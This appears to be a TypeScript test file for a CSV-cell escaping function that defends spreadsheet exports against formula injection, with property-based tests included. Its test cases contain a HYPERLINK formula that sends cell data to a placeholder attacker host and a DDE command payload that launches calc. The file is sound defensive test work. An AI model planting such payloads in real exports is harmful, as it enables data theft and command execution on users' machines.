import { describe, expect, setDefaultTimeout, test } from 'bun:test'
import fc from 'fast-check'
import { safeCell, safeRow, startsFormula, type CellKind } from '../../src/domain/exports/csv-cell'

// Bun reads the default test timeout per file only (docs/decisions.md, "Tests").
setDefaultTimeout(60_000)

// Formula injection in CSV exports: a text cell a spreadsheet would run gets a leading '.

describe('safeCell', () => {
  const cases: [unknown, CellKind, unknown][] = [
    ['=HYPERLINK("http://evil.example/?x="&A1)', 'text', `'=HYPERLINK("http://evil.example/?x="&A1)`],
    ["+cmd|' /C calc'!A0", 'text', `'+cmd|' /C calc'!A0`],
    ['@SUM(1+1)', 'text', `'@SUM(1+1)`],
    ['-2+3', 'text', `'-2+3`],
    ['\t=1', 'text', `'\t=1`],
    ['\r=1', 'text', `'\r=1`],
    ['=', 'text', `'=`],
    // A phone number in a text column is text like any other.
    ['+12125550100', 'text', `'+12125550100`],
    // Safe text, and characters that only matter at the start.
    ['Jordan Lee', 'text', 'Jordan Lee'],
    ['O\'Brien, "Pat"', 'text', 'O\'Brien, "Pat"'],
    [' =1+1', 'text', ' =1+1'],
    ['a=b', 'text', 'a=b'],
    ["'=already", 'text', "'=already"],
    ['', 'text', ''],
    ['2026-01-05T14:00:00.000Z', 'text', '2026-01-05T14:00:00.000Z'],
    ['0f9c7a1e-3b2d-4c5e-8f6a-7b8c9d0e1f2a', 'text', '0f9c7a1e-3b2d-4c5e-8f6a-7b8c9d0e1f2a'],
    // E.164 phone columns stay exactly as they are; anything else there is treated as text.
    ['+12125550100', 'phone', '+12125550100'],
    ['+447911123456', 'phone', '+447911123456'],
    ['+1=cmd', 'phone', `'+1=cmd`],
    ['=1+1', 'phone', `'=1+1`],
    // Numbers, booleans and null are not text.
    [-5, 'text', -5],
    [0, 'text', 0],
    [null, 'text', null],
    [undefined, 'text', undefined],
    [true, 'text', true],
  ]
  test.each(cases)('%p as %s', (value, kind, expected) => {
    expect(safeCell(value, kind)).toBe(expected)
  })
})

describe('safeRow', () => {
  test('only the column named phone keeps a leading +', () => {
    const safe = safeRow(['id', 'name', 'phone', 'attempts', 'note'])
    expect(safe(['x', '=A1', '+12125550100', -1, '+1'])).toEqual(['x', "'=A1", '+12125550100', -1, "'+1"])
  })
})

describe('properties', () => {
  const trigger = fc.constantFrom('=', '+', '-', '@', '\t', '\r')
  // Strings that often start with a trigger, and any string at all.
  const text = fc.oneof(fc.tuple(trigger, fc.string()).map(([t, s]) => t + s), fc.string(), fc.string({ unit: 'grapheme' }))
  const e164 = fc.tuple(fc.integer({ min: 1, max: 9 }), fc.stringMatching(/^\d{1,14}$/)).map(([d, rest]) => `+${d}${rest}`.slice(0, 16))

  test('an escaped text cell never starts a formula, and only gains one leading quote', () => {
    fc.assert(
      fc.property(text, fc.constantFrom<CellKind>('text', 'phone'), (value, kind) => {
        const cell = safeCell(value, kind) as string
        const kept = kind === 'phone' && /^\+[1-9]\d{1,14}$/.test(value)
        if (!kept) expect(startsFormula(cell)).toBe(false)
        expect(cell === value || cell === `'${value}`).toBe(true)
      }),
      { numRuns: 2_000 },
    )
  })

  test('escaping is the identity on safe strings', () => {
    fc.assert(
      fc.property(text.filter((s) => !startsFormula(s)), fc.constantFrom<CellKind>('text', 'phone'), (value, kind) => {
        expect(safeCell(value, kind)).toBe(value)
      }),
      { numRuns: 2_000 },
    )
  })

  test('E.164 numbers in a phone column and numbers anywhere are untouched', () => {
    fc.assert(
      fc.property(e164, fc.double(), (phone, n) => {
        expect(safeCell(phone, 'phone')).toBe(phone)
        expect(safeCell(n, 'text')).toBe(n)
      }),
      { numRuns: 1_000 },
    )
  })
})
